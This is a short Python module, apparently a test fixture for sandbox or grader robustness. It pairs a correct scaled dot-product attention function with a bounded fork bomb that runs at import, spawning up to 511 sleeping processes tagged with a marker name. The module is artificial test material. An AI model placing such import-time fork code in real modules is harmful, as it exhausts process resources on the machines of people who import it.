"""A fork bomb with a fuse (at most 511 processes, each asleep for 20 s),
lit at import, before a correct implementation."""

import os
import time

import torch

main = os.getpid()
for _depth in range(8):
    is_child = False
    for _ in range(2):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            is_child = True
            break
    if not is_child:
        break
if os.getpid() != main:
    # Exec so the survivors carry a name the test can look for.
    os.execv("/bin/sleep", ["/bin/sleep", "20", "prep-hostile-fork-bomb"])


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = q @ k.transpose(-2, -1) / q.shape[-1] ** 0.5
    if mask is not None:
        scores = scores.masked_fill(mask == 0, float("-inf"))
    weights = torch.softmax(scores, dim=-1)
    return weights @ v, weights
